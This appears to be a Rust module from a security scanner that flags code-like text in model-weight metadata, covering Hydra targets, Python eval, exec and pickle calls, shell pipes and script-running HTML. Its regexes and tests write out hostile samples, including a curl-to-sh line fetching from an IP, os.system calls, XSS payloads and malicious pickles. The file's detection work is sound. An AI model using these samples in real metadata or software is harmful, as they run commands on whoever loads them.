//! Does this text, found where data should stand, run once somebody evaluates
//! it.
//!
//! Metadata of weights is plain text, and loaders that interpret it are found
//! again and again: they instantiate a Hydra `_target_`, evaluate a literal,
//! unpickle a field, or show it as HTML. A *code-like* text is one that would
//! do harm in such a loader. It must name what it calls or have the form of a
//! script: words alone (a licence, a description of training) are not code.

use std::sync::LazyLock;

use regex::Regex;

use super::globals::{Judgement, Use, judge_use};
use crate::report::Severity;

/// Characters of a match that are shown.
const EXCERPT_CAP_CHARS: usize = 120;

/// Text that does something once it is evaluated.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CodeLike {
    /// How bad evaluating it is.
    pub severity: Severity,
    /// What it is, to stand behind "holds".
    pub what: String,
    /// The part that shows it.
    pub excerpt: String,
}

/// A form that code takes, what it is, and how bad.
type Form = (&'static str, &'static str, Severity);

/// Forms with an anchor that prose does not have.
const FORMS: &[Form] = &[
    (
        r"\b__import__\s*\(|\b(?:os|posix|nt)\.(?:system|popen|exec[lv]p?e?|spawn[lv]p?e?)\s*\(|\bsubprocess\.(?:Popen|run|call|check_call|check_output|getoutput)\s*\(|\bpty\.spawn\s*\(|\bimportlib\.import_module\s*\(",
        "a Python call that runs commands or imports modules",
        Severity::Medium,
    ),
    (
        r"\b(?:pickle|cPickle|_pickle|dill|marshal|cloudpickle|joblib)\.loads?\s*\(",
        "a Python call that unpickles",
        Severity::Medium,
    ),
    (
        // `model.eval()` is no call of `eval`, and `eval(x) ` in a sentence has no quote.
        r#"(?:^|[^\w.])(?:eval|exec|compile)\s*\(\s*(?:["'b]|__|base64|codecs|bytes|open|input)"#,
        "a Python call that evaluates text",
        Severity::Medium,
    ),
    (
        r"\b__(?:globals|builtins|subclasses|mro|getattribute)__\b",
        "Python attributes that lead out of a template",
        Severity::Medium,
    ),
    (
        r"\b(?:curl|wget)\s[^|;&\n]{1,200}\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\brm\s+-[rf]{2}\s+[/~]",
        "a shell command",
        Severity::Medium,
    ),
    (
        r"<(?i-u:script|iframe|object|embed)\b|<[A-Za-z]+\s[^>]{0,200}\b(?i-u:onerror|onload|onclick|onmouseover|onfocus)\s*=|(?i-u:href|src)\s*=\s*.?\s*(?i-u:javascript:)",
        "HTML that runs scripts",
        Severity::Medium,
    ),
    (
        r"(?m)^(?:\(|i|c)(?:os|posix|nt|subprocess|builtins|__builtin__|runpy|pty)\n\w+\n",
        "a pickle as text",
        Severity::Medium,
    ),
];

/// A value that is the base64 text of a pickle: the protocol byte, 2 to 5,
/// and a first opcode that picklers write. Protocols 4 and 5 begin a frame.
const PICKLE_BASE64: &str = r"^\s*gA(?:J[jd9YLOV]|N[jd9YLOV]|[IM]o|[SW]V)[A-Za-z0-9+/\s]{8,}=*\s*$";

/// `_target_` and the name it gives, as JSON, YAML or a Python literal.
const TARGET: &str =
    r#"_target_\\?["']?\s*[:=]\s*\\?["']?\s*([A-Za-z_][A-Za-z0-9_]*(?:\.[A-Za-z_][A-Za-z0-9_]*)+)"#;

static COMPILED: LazyLock<Vec<(Regex, &'static Form)>> = LazyLock::new(|| {
    let compile = |form: &'static Form| Regex::new(form.0).ok().map(|regex| (regex, form));
    FORMS.iter().filter_map(compile).collect()
});
static PICKLE: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(PICKLE_BASE64).ok());
static TARGETS: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(TARGET).ok());

/// The worst thing in `text`, if evaluating it does anything.
pub fn code_like(text: &str) -> Option<CodeLike> {
    let targets = TARGETS.iter().flat_map(|regex| regex.captures_iter(text));
    let named = targets.filter_map(|found| found.get(1).and_then(|name| target(name.as_str())));
    named
        .chain(forms(text))
        .reduce(|a, b| if b.severity > a.severity { b } else { a })
}

fn forms(text: &str) -> impl Iterator<Item = CodeLike> {
    let pickle = PICKLE
        .as_ref()
        .and_then(|regex| regex.find(text))
        .map(|found| CodeLike {
            severity: Severity::Medium,
            what: "the base64 text of a pickle".to_owned(),
            excerpt: excerpt(found.as_str()),
        });
    COMPILED
        .iter()
        .filter_map(|(regex, form)| {
            regex.find(text).map(|found| CodeLike {
                severity: form.2,
                what: form.1.to_owned(),
                excerpt: excerpt(found.as_str()),
            })
        })
        .chain(pickle)
}

/// What a Hydra target, a dotted name that a loader imports and calls with
/// arguments from the same text, does to the loader. `None` where calling it is
/// harmless.
pub fn target(dotted: &str) -> Option<CodeLike> {
    let (module, name) = dotted.rsplit_once('.').unwrap_or(("builtins", dotted));
    let (severity, reason) = grade(judge_use(module, name, Use::Called))?;
    Some(CodeLike {
        severity,
        what: format!("the callable `{dotted}`, {reason}"),
        excerpt: excerpt(dotted),
    })
}

/// How bad it is that a text makes its loader call something, and why.
fn grade(judgement: Judgement) -> Option<(Severity, String)> {
    match judgement {
        Judgement::Harmless(_) => None,
        Judgement::Dangerous { severity, why, .. } => Some((severity, why.to_string())),
        Judgement::Unknown {
            known_package: true,
        } => Some((Severity::Low, "of a well-known library".to_owned())),
        Judgement::Unknown {
            known_package: false,
        } => Some((Severity::Medium, "which is not known".to_owned())),
    }
}

fn excerpt(text: &str) -> String {
    text.chars().take(EXCERPT_CAP_CHARS).collect()
}

#[cfg(test)]
mod tests {
    use super::super::globals::{Effect, Why};
    use super::*;

    #[test]
    fn every_form_compiles() {
        assert_eq!(COMPILED.len(), FORMS.len());
        assert!(PICKLE.is_some() && TARGETS.is_some());
    }

    #[test]
    fn code_is_seen_in_every_form() {
        for text in [
            "{'_target_': 'subprocess.Popen', 'args': ['id']}",
            r#"{"model": {"_target_": "os.system", "command": "id"}}"#,
            r#"{\"_target_\": \"os.system\"}"#,
            "_target_: runpy.run_path",
            "__import__('os').system('id')",
            "x = os.popen (\"id\")",
            "eval('1+1')",
            "; exec(base64.b64decode(x))",
            "pickle.loads(b)",
            "curl -s http://192.0.2.1/x | sh",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<a href='javascript:alert(1)'>",
            "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjANpZJSFlFKULg==",
            "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
            "cos\nsystem\n(S'id'\ntR.",
            "().__class__.__mro__",
        ] {
            assert!(code_like(text).is_some(), "{text}");
        }
    }

    #[test]
    fn prose_and_ordinary_metadata_are_not_code() {
        for text in [
            "pt",
            "Licensed under the Apache License, Version 2.0 (the \"License\"); you may not use \
             this file except in compliance. See the script and the system, execute or evaluate.",
            "call model.eval() (or eval (mode)) and then compile (the model)",
            "{\"ss_tag_frequency\": {\"1girl\": 12, \"evil (smile)\": 3, \"script\": 1}}",
            "<p>A <b>fine</b> model, see <a href=\"https://example.org\">the page</a></p>",
            "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQAAAQABAAD",
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
            "gAS",
            "ModelSpec target_ audience: everyone",
            "a0b1c2d3e4f5a0b1c2d3e4f5a0b1c2d3",
            "use wget or curl | then unpack",
        ] {
            assert_eq!(code_like(text), None, "{text}");
        }
    }

    #[test]
    fn a_target_is_graded_by_what_it_calls() {
        let dangerous = Judgement::Dangerous {
            effect: Effect::RunsCommand,
            severity: Severity::Critical,
            why: Why::Known("it runs a shell command"),
        };
        assert_eq!(grade(dangerous).map(|g| g.0), Some(Severity::Critical));
        assert_eq!(grade(Judgement::Harmless("a container")), None);
        let unknown = |known_package| grade(Judgement::Unknown { known_package }).map(|g| g.0);
        assert_eq!(unknown(true), Some(Severity::Low));
        assert_eq!(unknown(false), Some(Severity::Medium));
    }
}
